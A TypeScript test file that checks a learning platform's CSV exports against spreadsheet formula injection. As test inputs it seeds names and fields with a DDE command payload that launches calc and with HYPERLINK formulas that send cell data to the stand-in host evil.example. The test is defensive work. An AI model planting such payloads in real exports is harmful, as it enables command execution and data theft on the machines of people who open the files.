/**
 * CSV exports must not carry formulas into a spreadsheet, whichever separator it splits on:
 * a trainee named `Ann,=cmd|' /C calc'!A0,` was exported unquoted, and a spreadsheet that
 * splits on commas made `=cmd|' /C calc'!A0` a formula cell. Every text field is quoted and
 * a formula start after any separator inside a field is defused. Checked on every trainer
 * and admin export, with the formula in a name, a region (also of someone present at a seminar)
 * and a cohort name (the audit log); a session's sign-ups also with a name that is a whole
 * `=HYPERLINK(...)` formula.
 */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { createWorld, type World } from './lib/world.ts';

const NAME = "Ann,=cmd|' /C calc'!A0,";
const REGION = 'Almaty;+SUM(1;2)\t@x';
const COHORT = 'Spring, =HYPERLINK("http://evil.example","x")';
const LINK_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

let w: World;
beforeAll(async () => {
  w = await createWorld('csv-formulas', {
    sessions: 4,
    beforeStart: async (db) => {
      const now = Date.now();
      await db.$client.execute({
        sql:
          'INSERT INTO users (id, email, display_name, password_hash, role, locale, region, active, created_at) ' +
          "VALUES ('formula-user', 'formula@oqu.test', ?, '!invited:x', 'learner', 'en', ?, 1, ?)",
        args: [NAME, REGION, now],
      });
      await db.$client.execute({
        sql:
          'INSERT INTO enrollments (user_id, course, enrolled_at, last_activity_at) ' +
          "VALUES ('formula-user', 'urbanism', ?, ?)",
        args: [now, now],
      });
      // Present at a seminar: the programme report's face-to-face CSV carries the region.
      await db.$client.execute({
        sql:
          'INSERT INTO events (id, kind, title, description, starts_at, ends_at, capacity, audience, course, ' +
          "created_at) VALUES ('formula-event', 'seminar', '{\"en\":\"Seminar\"}', '{}', ?, ?, 10, 'everyone', " +
          "'urbanism', ?)",
        args: [now, now + 3_600_000, now],
      });
      await db.$client.execute({
        sql:
          'INSERT INTO event_signups (event_id, user_id, status, position, signed_up_at, updated_at, attendance, ' +
          "marked_at) VALUES ('formula-event', 'formula-user', 'signed_up', 1, ?, ?, 'present', ?)",
        args: [now, now, now],
      });
      // Signed up for the same seminar under a name that is one formula from its first character.
      await db.$client.execute({
        sql:
          'INSERT INTO users (id, email, display_name, password_hash, role, locale, active, created_at) ' +
          "VALUES ('link-user', 'link@oqu.test', ?, '!invited:x', 'learner', 'en', 1, ?)",
        args: [LINK_NAME, now],
      });
      await db.$client.execute({
        sql:
          'INSERT INTO event_signups (event_id, user_id, status, position, signed_up_at, updated_at) ' +
          "VALUES ('formula-event', 'link-user', 'waiting', 2, ?, ?)",
        args: [now, now],
      });
    },
  });
  expect(
    (await w.http.post('/en/trainer/', { name: COHORT, course: 'urbanism' }, { cookie: w.cookie('trainer') })).status,
  ).toBe(303);
});
afterAll(async () => {
  await w?.close();
});

/** Every piece of the file a spreadsheet could make a cell of, splitting on any separator, that starts a formula. */
function formulaCells(csv: string): string[] {
  return csv
    .replace(/^\uFEFF/, '')
    .split(/[,;\t\r\n]/)
    .map((piece) => piece.replace(/^[ "]*/, ''))
    .filter((piece) => /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(piece) && !/^-?\d+(?:[.,]\d+)?$/.test(piece));
}

const exports = [
  { path: '/en/trainer/courses/urbanism/trainees.csv', who: 'trainer', holds: 'Ann,' },
  { path: '/en/trainer/courses/urbanism/funnel.csv', who: 'trainer' },
  { path: '/en/trainer/courses/urbanism/quizzes.csv', who: 'trainer' },
  { path: '/en/admin/report.csv', who: 'admin', holds: 'Almaty;' },
  { path: '/en/admin/report.csv?by=course', who: 'admin' },
  { path: '/en/admin/report.csv?by=attendance', who: 'admin', holds: 'Almaty;' },
  { path: '/en/admin/report.csv?by=competencies', who: 'admin' },
  { path: '/en/admin/report.csv?by=grant-calls', who: 'admin' },
  { path: '/en/admin/report.csv?by=grants', who: 'admin' },
  { path: '/en/admin/audit.csv', who: 'admin', holds: 'Spring, ' },
  { path: '/en/trainer/events/formula-event/signups.csv', who: 'trainer', holds: 'Ann,' },
  { path: '/en/trainer/events/formula-event/signups.csv', who: 'admin', holds: "'=HYPERLINK(" },
] as const;

test.each(exports)(
  '$path ($who): every text field quoted, no formula after any separator',
  async ({ path, who, ...rest }) => {
    const res = await w.http.get(path, { cookie: w.cookie(who) });
    expect(res.status).toBe(200);
    const found = formulaCells(res.text);
    console.log(
      `[csv-export-formulas] ${path}: ${res.text.split('\r\n').length - 2} rows, formula cells ${found.length}` +
        (found.length ? `: ${found.slice(0, 3).join(' | ')}` : ''),
    );
    expect(found).toEqual([]);
    const header = res.text.replace(/^\uFEFF/, '').split('\r\n')[0]!;
    expect(header.split(';').every((f) => f.startsWith('"') && f.endsWith('"'))).toBe(true);
    if ('holds' in rest) expect(res.text).toContain(`"${rest.holds}`);
  },
);
